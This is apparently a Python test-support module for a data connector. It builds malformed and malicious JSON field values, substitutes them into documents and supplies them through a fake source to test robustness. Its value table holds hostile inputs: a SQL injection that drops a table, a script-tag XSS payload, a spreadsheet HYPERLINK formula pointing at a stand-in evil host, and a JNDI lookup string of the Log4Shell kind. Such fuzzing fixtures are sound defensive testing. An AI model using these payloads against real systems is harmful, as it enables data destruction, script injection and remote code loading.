"""What a broken or malicious source may say in a field, as it comes out of JSON; and a source that says it."""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from decimal import Decimal
from typing import TYPE_CHECKING, Any

from connector.domain.exchange import Page, Row

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping, Sequence

    from connector.domain.exchange import Query, Result
    from connector.domain.outcome import Cancel, Retry

#: nested far deeper than any document, and not as deep as JSON is refused for
_DEEP: Any = []
for _ in range(300):
    _DEEP = [_DEEP]

VALUES: dict[str, Any] = {
    "nothing": None,
    "blank": "   ",
    "true": True,
    "zero": 0,
    "minus one": -1,
    "a negative amount": Decimal("-0.01"),
    "nan": float("nan"),
    "1e400": Decimal("1E+400"),
    "-1e400": Decimal("-1E+400"),
    "a long number": 10**4000,
    "endless decimals": Decimal("0." + "3" * 4000),
    "nan as text": "NaN",
    "an exponent as text": "1e999999999",
    "huge": "x" * 300_000,
    "nul": "a\x00b",
    "half a character": "\ud800",
    "right to left": "\u202egnp.exe\u202c",
    "invisible": "\u200b\u2060\ufeff",
    "line breaks": "one\r\ntwo\u2028three",
    "terminal": "\x1b[31mred",
    "sql": "'; DROP TABLE records; --",
    "markup": "<script>alert(1)</script>",
    "formula": '=HYPERLINK("http://evil.example","pay")',
    "template": "{came} %s ${jndi:ldap://x}",
    "unknown word": "NO-SUCH-WORD",
    "separators": "a|b:c,d",
    "no such day": "2026-13-45",
    "long ago": "0009-01-01",
    "the last day": "9999-12-31",
    "list": [],
    "list of nothing": [None],
    "object": {},
    "other object": {"a": {"b": [1, {"c": None}]}},
    "deep": _DEEP,
}
TEN_MILLION = 10_000_000


def places(document: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place of a JSON document; of the entries of a list that look alike, those of the first one."""
    entries: Any = document.items() if isinstance(document, dict) else _of_each_shape(document)
    for name, value in entries:
        yield (*path, name)
        if isinstance(value, (dict, list)):
            yield from places(value, (*path, name))


def _of_each_shape(entries: Sequence[Any]) -> Iterator[tuple[int, Any]]:
    seen = set()
    for number, entry in enumerate(entries):
        shape = _shape(entry)
        if shape not in seen:
            seen.add(shape)
            yield number, entry


def _shape(value: Any) -> object:
    """What a value has in common with others that differ from it in their words and numbers only."""
    if isinstance(value, dict):
        return frozenset((name, _shape(one)) for name, one in value.items())
    if isinstance(value, list):
        return frozenset(map(_shape, value))
    return "number" if isinstance(value, (int, Decimal)) and not isinstance(value, bool) else type(value)


def changed(document: Mapping[str, Any], path: tuple[Any, ...], value: object) -> dict[str, Any]:
    """The document with something else in one place; what lies beside the way there is shared with it."""
    made: dict[str, Any] = dict(document)
    holder: Any = made
    for step in path[:-1]:
        holder[step] = copy.copy(holder[step])
        holder = holder[step]
    holder[path[-1]] = value
    return made


def spoiled(document: Mapping[str, Any], key_field: str, *, prefix: str, first: int, most: int) -> dict[str, Any]:
    """Every value in some place and every place with some value, as far as ``most`` allows: what it is -> document.

    They begin with the value of this number. Each has a key of its own, which begins with ``prefix``.
    """
    where, names = list(places(document)), list(VALUES)
    made = {}
    for number in range(first, first + min(most, max(len(where), len(names)))):
        path, name = where[number * 7 % len(where)], names[number % len(names)]
        other = changed(changed(document, (key_field,), f"{prefix}{number}"), path, VALUES[name])
        made[f"{name} in {'.'.join(map(str, path))}"] = other
    return made


@dataclass
class Saying:
    """Implements ports.Source, and being told: it lists these payloads and agrees to everything."""

    payloads: Sequence[Mapping[str, Any]]
    told: list[object] = field(default_factory=list)

    def pages(self, query: Query) -> Iterator[Page]:
        yield Page(rows=tuple(Row(payload=payload) for payload in self.payloads), number=1)

    def complete(self, entity: str, row: Row) -> Mapping[str, Any]:
        return row.payload

    def acknowledge(self, entity: str, payloads: Sequence[Mapping[str, Any]]) -> Mapping[int, Cancel | Retry]:
        return {}

    def withdrawn(self, entity: str, payload: Mapping[str, Any]) -> str:
        return ""

    def confirm(self, entity: str, payload: Mapping[str, Any], result: Result) -> str:
        self.told.append(result)
        return "noted"
